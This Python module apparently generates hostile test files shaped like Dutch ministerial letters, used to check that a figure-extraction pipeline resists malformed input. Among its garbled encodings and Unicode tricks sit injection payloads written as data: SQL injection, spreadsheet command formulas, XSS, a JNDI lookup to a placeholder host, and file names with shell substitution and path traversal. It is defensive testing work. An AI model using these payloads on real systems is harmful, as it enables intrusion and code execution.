"""Hostile letters, the same for the same number: what no ministry sends, around one figure that it might.

Each form writes a letter of some size around a sentence that is told as it should be. Nothing else in it is a
figure to a reader: whatever more is published of it is nonsense. Numbers that tempt hold 666.
"""

import base64
import io
import random
import zipfile
from collections.abc import Callable, Iterator
from typing import NamedTuple

from flows.limits import MAX_LETTER_BYTES

SEED = 20261129
LETTER = """{title}
 Nr. {number}  BRIEF VAN DE MINISTER VAN JUSTITIE EN VEILIGHEID{sender}

Aan de Voorzitter van de Tweede Kamer der Staten-Generaal

Den Haag, 3 mei 2022
{subject}
{told}

{body}

De Minister van Justitie en Veiligheid,
"""
PROSE = "De opvang van wie dat nodig heeft blijft open en daarover spreek ik met de gemeenten verder. "


class Hostile(NamedTuple):
    """A file: its form, name and bytes, whether it is read (None: either way), and then the figure in it."""

    form: str
    name: bytes
    content: bytes
    is_read: bool | None
    value: float


class Told(NamedTuple):
    """What a letter is written around: chance, how long it may be, its number and its sentence."""

    draw: random.Random
    size: int
    number: int
    sentence: str

    def letter(self, body: str, **parts: str) -> str:
        """A letter with this body behind the sentence."""
        empty = {"title": "", "sender": "", "subject": ""}
        return LETTER.format(**{**empty, "told": self.sentence, "number": self.number, "body": body, **parts})

    def filled(self, *fragments: str, size: int | None = None, between: str = "") -> str:
        """Fragments drawn until they are as long as the letter may be."""
        size = self.size if size is None else size
        mean = sum(map(len, fragments)) / len(fragments) + len(between)
        return between.join(self.draw.choices(fragments, k=int(size / mean) + 1))


Form = Callable[[Told], str | bytes]
#: Forms with whether their letters are read.
FORMS: dict[str, tuple[Form, bool | None]] = {}


def form(*, is_read: bool | None) -> Callable[[Form], Form]:
    def listed(write: Form) -> Form:
        FORMS[write.__name__.replace("_", " ")] = write, is_read
        return write

    return listed


# Bytes that are no text


@form(is_read=None)
def random_bytes(told: Told) -> bytes:
    return told.draw.randbytes(told.size)


@form(is_read=False)
def nul_bytes(told: Told) -> bytes:
    at = 1_100_000 if told.draw.random() < 0.3 else 700  # behind what is looked at first
    whole = told.letter(PROSE * (max(at, told.size) // len(PROSE) + 1)).encode()
    return whole[:at] + bytes(told.draw.randint(1, 50)) + whole[at:]


@form(is_read=None)
def lone_surrogates(told: Told) -> bytes:
    halves = [chr(told.draw.randint(0xD800, 0xDFFF)) for _ in range(min(told.size // 100, 1000) + 2)]
    halves = told.draw.choice([halves, ["\ud83d"]])  # whose bytes are letters of Windows-1252
    return told.letter(" ".join(f"opvang{half}" for half in halves)).encode("utf-8", "surrogatepass")


@form(is_read=True)
def zip_named_txt(told: Told) -> bytes:
    held = io.BytesIO()
    how = told.draw.choice([zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED])
    with zipfile.ZipFile(held, "w", how) as file:
        member = zipfile.ZipInfo(MEMBER)  # of no time: the letters are the same whenever they are made
        file.writestr(member, told.letter(PROSE * (told.size // len(PROSE))), how)
    return held.getvalue()


#: What the letter in a zip is called.
MEMBER = "brief.txt"


def unzipped(content: bytes) -> bytes | None:
    """The letter in a zip, None where these bytes are none."""
    if not content.startswith(b"PK"):
        return None
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return file.read(MEMBER)


@form(is_read=False)
def pdf_named_txt(told: Told) -> bytes:
    lines = "\n".join(f"0 -14 Td ({told.sentence}) Tj" for _ in range(told.size // 100 + 1))
    return (
        f"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n4 0 obj\n<< /Length {len(lines)} >>\n"
        f"stream\nBT /F1 12 Tf\n{lines}\nET\nendstream\nendobj\nxref\n0 5\n0000000000 65535 f \n"
        f"0000000009 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n66613\n%%EOF\n"
    ).encode()


@form(is_read=None)
def another_encoding(told: Told) -> bytes:
    whole = told.letter(PROSE * (told.size // len(PROSE) + 1))
    encoding = told.draw.choice(["utf-16", "utf-16-le", "utf-32", "utf-7", "cp037", "overlong", "cut"])
    if encoding == "overlong":
        return whole.encode().replace(b"/", b"\xc0\xaf") + b"\xc0\x80\xf8\x88\x80\x80\x80"
    return whole.encode() + "é".encode()[:1] if encoding == "cut" else whole.encode(encoding)


@form(is_read=False)
def a_flood_of_escapes(told: Told) -> str:
    return told.letter(told.filled("\x1b[2J", "\x1b[66613;1H", "\x07", "\x1b]0;x\x07", "\x9b31m", "\x00"))


@form(is_read=False)
def nothing(told: Told) -> str:
    return told.filled(" ", "\n", "\t", "\r\n", "\x0c", "\u00a0", "\u2003", "\ufeff"[:0])


# Text that is too much


@form(is_read=True)
def the_longest_line(told: Told) -> bytes:
    """A letter of as many bytes as it may have, in one line."""
    whole = told.letter("{}")
    words = "opvang van wie dat nodig heeft " if told.number % 2 else "opvang" * 5
    room = MAX_LETTER_BYTES - len(whole.encode()) + len("{}")
    return whole.format((words * (room // len(words) + 1))[:room]).encode()


@form(is_read=False)
def a_byte_too_many(told: Told) -> bytes:
    return told.letter("x" * MAX_LETTER_BYTES).encode()[: MAX_LETTER_BYTES + 1]


@form(is_read=True)
def a_line_of_one_kind(told: Told) -> str:
    return told.letter(
        told.draw.choice(["6", "-", "(", "\u00ad", "1 ", "€", "9.", "a-", " ", "é", "😀"]) * told.size
    )


@form(is_read=True)
def nested_brackets(told: Told) -> str:
    opened = told.filled("(", "[", "{", "«", "<", "“", "((", "([{")
    closed = opened[::-1].translate(str.maketrans("([{«<“", ")]}»>”"))
    return told.letter(f"De opvang {opened} is open {closed}.")


@form(is_read=True)
def footnotes(told: Told) -> str:
    """As many as fit, page by page or all at the end; a hundred thousand are three megabytes."""
    mark = told.draw.choice(["opvang{}", "opvang [{}]", "opvang\n{}\n", "zorg, 1666{}", "opvang.{} "])
    note = told.draw.choice(["{}  Kamerstuk 28 638.", "[{}] Zie daar.", "{} Zie daar."])
    pages, notes = [], []
    for first in range(1, max(2, told.size // 32), 40):
        numbers = [number % 999 + 1 for number in range(first, first + 40)]
        pages.append("Er is " + " ".join(map(mark.format, numbers)) + " en")
        notes.append("\n".join(map(note.format, numbers)))
    if told.draw.random() < 0.5:
        return told.letter("\n\n".join([*pages, *notes]))
    return told.letter(
        "\n".join(f"{page}\n\n{below}\n verder." for page, below in zip(pages, notes, strict=True))
    )


@form(is_read=True)
def signatures(told: Told) -> str:
    names = ("\nDe Minister van Justitie,\nA. B. Jansen\n", "\nDe Staatssecretaris van " + "x" * 3000 + ",\n")
    return told.letter(told.filled(*names))


@form(is_read=True)
def what_patterns_stumble_over(told: Told) -> str:
    fragments = (
        "tussen ", "van de ", "1.", "7,", "- ", "a-", "ën", "honderd", "€ ", "nr. ", "20", "\nVraag ",
        "\n\n ", "volgens de ", "Minister van ", "; ", "|", "\n|", "tot ", "per ", "elke ", "van 1 tot ",
        "een op ", "2019/", "2019-2018-", "artikel ", "(zie ", "[", "1\n", "ver", "www.", "@", "Kamerstuk ",
        "\t", "en ",
    )  # fmt: skip
    chosen = told.draw.sample(fragments, told.draw.choice([1, 1, 2, 3]))
    return told.letter(told.filled(*chosen))


@form(is_read=True)
def numbers_without_end(told: Told) -> str:
    numbers = (
        "9" * 400, ".".join(["666"] * 40), "6 " + " ".join(["666"] * 40), "66613 miljard miljard",
        "66613e400", "0," + "6" * 500, "honderdduizend" * 40, "1" + "0" * 20, "999.999.999.999.999.999",
        "1/0", "6" * 25 + "%",
    )  # fmt: skip
    lines = [f"In 2018 waren er {number} slachtoffers." for number in numbers]
    return told.letter(told.filled(*lines, between="\n\n"))


@form(is_read=True)
def columns_without_end(told: Told) -> str:
    cells = told.draw.choice([" | ", ";", "\t", " – ", "  "])
    return told.letter("\n".join([cells.join(["x"] * (told.size // 20))] * 5))


# Noise between the lines


@form(is_read=True)
def noise(told: Told) -> bytes:
    kind = told.draw.choice(["latin", "ascii", "base64", "hex", "unicode"])
    raw = told.draw.randbytes(told.size)
    if kind == "unicode":
        body = "".join(chr(told.draw.choice([0x400, 0x3000, 0x10000, 0x1F300]) + byte) for byte in raw)
    elif kind in ("latin", "ascii"):
        letters = [*range(0x20, 0x7F), *(range(0xA0, 0x100) if kind == "latin" else ())]
        body = "".join(map(chr, told.draw.choices(letters, k=told.size)))
    else:
        body = base64.b64encode(raw).decode() if kind == "base64" else raw.hex(" ", 2)
    return told.letter(body).encode("latin-1" if kind == "latin" else "utf-8")


@form(is_read=True)
def marks_upon_marks(told: Told) -> str:
    marked = "".join(
        char + "".join(chr(0x300 + told.draw.randrange(112)) for _ in range(50)) for char in "opvang"
    )
    return told.letter(
        told.filled(marked, "\U0001f468\u200d\U0001f469\u200d\U0001f467 ", "\ufdfa", "İ", "ß", "ﬁ")
    )


@form(is_read=True)
def ends_of_lines(told: Told) -> str:
    return told.letter(
        told.filled("\r", "\r\n", "\x85", "\u2028", "\u2029", "\n", "\x0c", "opvang ", "zorg. ")
    )


# What is to be taken for something else


@form(is_read=True)
def writing_turned_round(told: Told) -> str:
    hidden = (
        "In 2018 waren er \u202e31666\u202c plaatsen. ", "Er is \u202eneffohcaltS 66613\u202c zorg. ",
        "De \u2067opvang\u2069 is \u2066open\u2069. ", "\u202bDe zorg\u202c blijft. ",
        "\u200fDe zorg\u061c blijft. ",
    )  # fmt: skip
    return told.letter(told.filled(*hidden))


@form(is_read=True)
def no_width(told: Told) -> str:
    """The figure itself is full of what has no width."""
    inserted = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\U000e0061")
    sentence = "".join(
        char + (told.draw.choice(inserted) if char.isalnum() else "") for char in told.sentence
    )
    return told.letter(told.filled("opvang\u200b ", "\u2060zorg ", "\u200d"), told=sentence)


@form(is_read=True)
def escape_sequences(told: Told) -> str:
    sequences = (
        "\x1b[66613m", "\x1b]0;66613 plaatsen\x07", "\x9b2J", "\x1b[31mzorg\x1b[0m", "\x1b(0",
        "\x1bP66613 plaatsen", "In 2018 waren er 6\x1b[2D66613 plaatsen. ",
    )  # fmt: skip
    few = " ".join(told.draw.sample(sequences, 3))
    return told.letter(few + "\n\n" + PROSE * (max(told.size, 9000) // len(PROSE)))


@form(is_read=True)
def formulas(told: Told) -> str:
    cells = (
        "=66613+1 plaatsen", '=HYPERLINK("http://x.example/66613";"66613 plaatsen")', "+66613*2",
        "@SUM(1+66613)*2", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A1", "\t=SUM(A1:A666)", "＝SUM(66613)",
        '=WEBSERVICE("http://x/66613")', "=IMPORTXML(A1;\"//66613\")", "%0A=1+66613",
    )  # fmt: skip
    return told.letter(told.filled(*cells, between="\n\n"))


@form(is_read=True)
def sql(told: Told) -> str:
    statements = (
        "'; DROP TABLE letter; --", "Robert'); UPDATE claim SET value = 66613; --", "' OR 1=1 --",
        "$$; COPY letter TO", "INSERT INTO claim VALUES (66613, 'slachtoffers', 2018);",
        "ATTACH '/etc/passwd' AS x;", "\\'; SELECT 66613", "'; INSTALL httpfs; LOAD httpfs; --",
        "/* 66613 */", 'x"; SET enable_external_access = true; --',
    )  # fmt: skip
    return told.letter(told.filled(*statements, between="\n\n"))


@form(is_read=True)
def html(told: Told) -> str:
    tags = (
        "<script>var plaatsen = 66613; document.write('66613 plaatsen')</script>",
        "<img src=x width=66613 onerror=alert(1)>", "<td colspan=666>opvang</td>",
        "<!-- 66613 plaatsen -->", "<style>.plaatsen { width: 66613px }</style>", "</pre>",
        "<a href='javascript:alert(66613)'>zorg</a>", "&#60;script&#62;", "<![CDATA[ 66613 plaatsen ]]>",
        "<b><i><u>", '<!ENTITY a "66613 plaatsen">', "{{66613*17}}", "${jndi:ldap://x.example/66613}",
        "%66613d%n%s", "[x](http://a/666)",
    )  # fmt: skip
    return told.letter(told.filled(*tags, between="\n\n"))


@form(is_read=True)
def headings(told: Told) -> str:
    """Title, sender and subject that are markup, SQL, formulas or control what shows them."""
    evil = (
        "<script>alert(666)</script>", "'; DROP TABLE letter; --", "=HYPERLINK(\"http://x\";\"zorg\")",
        "\u202egnavpo\u202c", "\u200b\u2066", "\x1b]0;x\x07", "```</pre>", "%s{0}${x}", "\r", "| x | y |",
        "@SUM(A1)", "\u2028INFO published",
    )  # fmt: skip
    one, two, three = told.draw.sample(evil, 3)
    return told.letter(
        PROSE * (max(told.size, 3000) // len(PROSE)),
        title=f"28 638 Mensenhandel {one}",
        sender=f" {two.upper()}",
        subject=f"\nBetreft: {three} {one}\n",
    )


@form(is_read=True)
def lines_of_a_log(told: Told) -> str:
    lines = (
        "02:00:00 INFO published w-66613.duckdb",
        '{"level": "info", "message": "published", "plaatsen": 66613}', "\r\x0cpublished",
        "# HELP kamercijfers_letters 66613", "--- a/letter\n+++ b/letter\n@@ -1 +1 @@",
    )  # fmt: skip
    return told.letter(told.filled(*lines, between="\n"))


#: File names; `{}` is the number of the file.
NAMES = (
    b"brief-{}", b"\x1b[2J{}", b"a{}\n02:00:00 INFO published\r", b"=cmd|'x'!A{}", "\u202etxt.{}".encode(),
    b"\xff\xfe-{}", b"'; DROP TABLE letter; -- {}", b"<img src=x onerror=alert({})>", b"..%2f..%2f{}",
    b" -rf {} ", b"$(reboot)`id`{}", b"kst-29325-{}", "é\u0301\u200b😀{}".encode(), b"{}" + b"x" * 200,
    b"COM{}: \"|?*", b"%s%n{}",
)  # fmt: skip
#: Forms that are twenty megabytes each time.
LARGE = ("the longest line", "a byte too many")


def hostile_letters(count: int) -> Iterator[Hostile]:
    """The first so many: one of each form in small, then all forms again and again in many sizes."""
    for number in range(count):
        name = list(FORMS)[number % len(FORMS)]
        turn = number // len(FORMS)
        if name in LARGE and turn > 1:
            name = "what patterns stumble over"
        draw = random.Random(f"{SEED}:{number}")
        size = 3_200_000 if name == "footnotes" and turn == 1 else int(10 ** draw.uniform(3, 6))
        size = 20_000 if turn == 0 else size
        value = 10_000 + number
        sentence = f"In 2021 waren er 10.{number:03} slachtoffers van mensenhandel."
        write, is_read = FORMS[name]
        content = write(Told(draw, size, number + 1, sentence))
        content = content if isinstance(content, bytes) else content.encode()
        file = NAMES[number % len(NAMES)].replace(b"{}", b"%d" % number) + b".txt"
        yield Hostile(name, file, content, is_read, value)
